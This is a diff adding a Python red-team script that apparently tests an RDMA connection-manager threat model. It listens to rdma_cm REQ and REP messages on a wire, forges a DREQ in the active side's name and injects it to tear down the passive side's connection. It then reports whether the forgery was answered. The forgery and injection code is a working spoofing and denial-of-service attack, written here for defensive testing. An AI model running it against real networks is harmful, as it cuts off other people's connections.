@@ -1,0 +1,111 @@
+#!/usr/bin/python3
+# SPDX-License-Identifier: GPL-2.0
+"""cm - end a connection of rdma_cm's in the name of one of its ends (threat-model.md, 48).
+
+The attacker is the wire. It watches the connection manager's messages, which in the clear,
+and under a seal of headers or packets too, say all that a DREQ has to name, and then sends
+one to the passive side: as it would be in the clear, under the REQ's own seal, and under
+seals at random. Whoever believes it answers by a DREP, and the connection is over.
+
+Prints {"read": whether it could read the messages, "answered": whether a DREP came,
+"alive": how many packets of a reliable connection the passive side sent in the two seconds
+after that}.
+
+Example:
+  tools/redteam/cm.py --netns m --ports ma mb
+"""
+import argparse
+import json
+import os
+import struct
+import sys
+from dataclasses import dataclass
+
+sys.path.insert(0, os.path.dirname(os.path.realpath(__file__)))
+from wire import Wire  # noqa: E402  (beside this file)
+
+QP1 = 1
+UD_SEND_ONLY = 0x64
+RC_LAST = 0x1F      # opcodes of reliable connections end there
+
+# IBA 13.4.3 and 12.6: a MAD's class and attribute, and where the messages have what
+MAD_LEN, CLASS_AT, ATTRIBUTE_AT, DATA_AT = 256, 1, 16, 24
+CLASS_CM, VERSION_CM, METHOD_SEND = 0x07, 2, 0x03
+REQ, REP, RTU, DREQ, DREP = 0x10, 0x13, 0x14, 0x15, 0x16
+REQ_QPN_AT, REP_QPN_AT = 32, 12
+
+
+def attribute(shot):
+    """Of a message of the connection manager's that can be read, or None."""
+    mad = shot.payload
+    if shot.opcode != UD_SEND_ONLY or shot.header.dqpn != QP1 or len(mad) < MAD_LEN or \
+            mad[CLASS_AT] != CLASS_CM:
+        return None
+    return struct.unpack_from("!H", mad, ATTRIBUTE_AT)[0]
+
+
+def word(shot, at):
+    return struct.unpack_from("!I", shot.payload, DATA_AT + at)[0]
+
+
+@dataclass
+class Talk:
+    """What was said while a connection was made."""
+
+    req: object = None
+    rep: object = None
+    dreps: int = 0
+    rc: int = 0
+
+    def hear(self, side, shot):
+        what = attribute(shot)
+        if what == REQ:
+            self.req = shot
+        elif what == REP:
+            self.rep = shot
+        elif what == DREP:
+            self.dreps += 1
+        elif shot.opcode <= RC_LAST and side == Wire.TO_B:
+            self.rc += 1
+
+    def dreq(self):
+        """In the name of who sent the REQ."""
+        mad = struct.pack("!BBBBHHQHHI", 1, CLASS_CM, VERSION_CM, METHOD_SEND, 0, 0,
+                          int.from_bytes(os.urandom(8), "big"), DREQ, 0, 0)
+        mad += struct.pack("!III", word(self.req, 0), word(self.rep, 0), word(self.rep, REP_QPN_AT))
+        return self.req.but(payload=mad.ljust(MAD_LEN, b"\0"), psn=self.req.psn + 100 & 0xffffff)
+
+
+def attack(wire, patience):
+    talk = Talk()
+    wire.tap = talk.hear
+    # of what cannot be read there is nothing to wait for but that it goes on
+    wire.until(lambda: talk.rep and talk.rc > 20 or talk.rc > 200, patience)
+    read = bool(talk.req and talk.rep)
+    if read:
+        for _ in range(5):
+            wire.put(Wire.TO_B, talk.dreq().disguises())
+            wire.rest(0.2)
+    wire.until(lambda: talk.dreps, 3)
+    answered, before = talk.dreps > 0, talk.rc
+    wire.rest(2)
+    return {"read": read, "answered": answered, "alive": talk.rc - before}
+
+
+def main():
+    parser = argparse.ArgumentParser(description=__doc__,
+                                     formatter_class=argparse.RawDescriptionHelpFormatter)
+    parser.add_argument("--netns", required=True, metavar="NETNS")
+    parser.add_argument("--ports", required=True, nargs=2, metavar="DEV",
+                        help="towards the active side, and towards the passive one")
+    parser.add_argument("--patience", type=float, default=30, metavar="SECONDS",
+                        help="for a connection to be made (30)")
+    options = parser.parse_args()
+    wire = Wire(options.netns, options.ports)
+    print("the wire", file=sys.stderr, flush=True)
+    print(json.dumps(attack(wire, options.patience)), flush=True)
+    wire.rest(60)       # who waits for it ends it: without it, nothing passes
+
+
+if __name__ == "__main__":
+    main()
